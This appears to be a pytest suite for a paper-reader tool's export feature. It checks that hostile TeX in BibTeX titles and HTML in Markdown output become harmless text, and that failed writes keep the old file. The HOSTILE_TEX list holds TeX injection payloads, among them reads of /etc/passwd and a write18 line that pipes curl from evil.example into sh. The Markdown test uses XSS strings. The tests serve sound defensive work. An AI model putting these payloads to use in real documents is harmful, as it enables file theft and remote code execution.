"""Exports written by ``export -o`` and the citations in them: the user's old file survives any failure,
Markdown shows feed HTML as text, BibTeX turns TeX commands that read, write or redefine into text.
"""

from __future__ import annotations

import errno
import os
import re
import shutil
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from test_cite import parse_one

from reader_tui import cite
from reader_tui.model import Paper

Run = Callable[..., tuple[int, str, str]]
FEEDS = Path(__file__).parent / "fixtures" / "feeds"
DIGEST = FEEDS / "ftxj-2026-05-29.xml"
OLD = "% my hand-kept bibliography\n@misc{mine, title={Mine}}\n"

# --------------------------------------------------------------------------- TeX in BibTeX titles

HOSTILE_TEX = [
    r"\input{/etc/passwd}",
    r"\include{secret}",
    r"\immediate\write18{curl evil.example | sh}",
    r"\openout1=owned.tex",
    r"\def\title{pwned} \catcode`\@=11",
    r"\csname input\endcsname{/etc/passwd}",
    r"^^5cinput{/etc/passwd}",
    r"\^^69nput{/etc/passwd}",
    r"Math is no hiding place: $\input{/etc/passwd}$",
    r"\newcommand\x{\input{/etc/passwd}}\x",
    r"\begin{document}\end{document}",
    r"\unknowncommand stops LaTeX",
]
DANGEROUS = re.compile(
    r"(?<!\\)(?:\\\\)*\\(input|include|immediate|write|openout|def|catcode|csname|endcsname|newcommand"
    r"|begin|end|unknowncommand|x)(?![A-Za-z])"
)
"""A live command: a backslash (not itself escaped) right before a name we never let through."""


def title_of(entry: str) -> str:
    line = next(line for line in entry.splitlines() if line.lstrip().startswith("title="))
    return line.strip()[len("title={") : -len("}, ") + 1].rstrip("}, ")


@pytest.mark.parametrize("title", HOSTILE_TEX)
def test_tex_commands_in_titles_become_text(title: str) -> None:
    paper = Paper(id="x", arxiv_id="2401.00001", title=title, authors=[r"Eve \input{/etc/shadow}"])
    entry = cite.bibtex(paper)
    assert not DANGEROUS.search(entry), entry
    assert "^^" not in entry
    parsed = parse_one(entry)  # and the entry still parses
    assert parsed["key"] == cite.bibtex_key(paper)


@pytest.mark.parametrize(
    ("title", "written"),
    [
        (r"$CO_2$ capture with {BERT}", r"$CO_2$ capture with {BERT}"),
        (r"{BERT} on $\mathcal{O}(n)$", r"{BERT} on $\mathcal{O}(n)$"),
        (
            r"\'Etude \c{c}a \v{s} \emph{vraiment} \textbf{bold}",
            r"\'Etude \c{c}a \v{s} \emph{vraiment} \textbf{bold}",
        ),
        (r"The \LaTeX{} way, \ldots", r"The \LaTeX{} way, \ldots"),
        (r"50\% \& more", r"50\% \& more"),
        (r"\input{x} then $\ln x$", r"\textbackslash{}input{x} then $\ln x$"),
    ],
)
def test_legitimate_tex_still_exports(title: str, written: str) -> None:
    paper = Paper(id="x", arxiv_id="2401.00001", title=title, authors=["A B"])
    assert f"title={{{written}}}, " in cite.bibtex(paper)


# --------------------------------------------------------------------------- Markdown


def test_markdown_export_shows_html_as_text() -> None:
    paper = Paper(
        id="x",
        arxiv_id="2401.00001",
        title="<script>alert(1)</script> & <b>bold</b>",
        authors=["Eve <img src=x onerror=alert(1)>"],
    )
    line = cite.export([paper], "markdown")
    assert "<" not in line and ">" not in line.replace("&gt;", "")
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt;" in line
    assert "Eve &lt;img src=x onerror=alert(1)&gt;" in line
    from markdown_it import MarkdownIt

    rendered = MarkdownIt("commonmark").render(line)
    assert "<script>" not in rendered and "<img" not in rendered and "&lt;script&gt;" in rendered


# --------------------------------------------------------------------------- export -o


def test_export_replaces_the_file_and_keeps_its_mode(run: Run, tmp_path: Path) -> None:
    target = tmp_path / "refs.bib"
    target.write_text(OLD, encoding="utf-8")
    os.chmod(target, 0o640)
    code, out, err = run("export", str(DIGEST), "-o", str(target))
    assert code == 0 and out == "" and err.startswith("wrote ")
    assert target.read_text(encoding="utf-8").startswith("@misc{")
    assert target.stat().st_mode & 0o777 == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["home", "refs.bib"]  # no temporary file left


def test_a_failed_write_leaves_the_old_file_whole(
    run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "refs.bib"
    target.write_text(OLD, encoding="utf-8")

    real_fsync = os.fsync

    def full(fd: int) -> None:
        """The disk fills as the export's temporary file is synced (the store's own syncs go through)."""
        if Path(os.readlink(f"/proc/self/fd/{fd}")).name.startswith(".refs.bib."):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        real_fsync(fd)

    monkeypatch.setattr(os, "fsync", full)
    code, out, err = run("export", str(DIGEST), "-o", str(target))
    assert code == 1 and out == ""
    assert err == f"reader-tui: cannot write {target}: No space left on device\n"
    assert target.read_text(encoding="utf-8") == OLD
    assert sorted(p.name for p in tmp_path.iterdir()) == ["home", "refs.bib"]


@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A 16 KB tmpfs, where the machine lets us mount one (root in a container); else skipped."""
    mount = shutil.which("mount")
    folder = tmp_path / "small"
    folder.mkdir()
    if mount is None or os.geteuid() != 0:
        pytest.skip("mounting a tmpfs needs root")
    done = subprocess.run(
        [mount, "-t", "tmpfs", "-o", "size=16k", "tmpfs", str(folder)], capture_output=True, check=False
    )
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.decode(errors='replace').strip()}")
    try:
        yield folder
    finally:
        subprocess.run(["umount", str(folder)], check=False)


def test_a_full_disk_leaves_the_old_file_whole(run: Run, small_disk: Path) -> None:
    target = small_disk / "refs.json"
    target.write_text(OLD, encoding="utf-8")
    code, out, err = run("export", str(DIGEST), "--format", "json", "-o", str(target))
    assert code == 1 and out == ""
    assert err == f"reader-tui: cannot write {target}: No space left on device\n"
    assert target.read_text(encoding="utf-8") == OLD
    assert sorted(p.name for p in small_disk.iterdir()) == ["refs.json"]


def test_export_to_a_missing_folder_is_one_line(run: Run, tmp_path: Path) -> None:
    target = tmp_path / "no" / "such" / "refs.bib"
    code, out, err = run("export", str(DIGEST), "-o", str(target))
    assert code == 1 and out == ""
    assert err == f"reader-tui: cannot write {target}: No such file or directory\n"
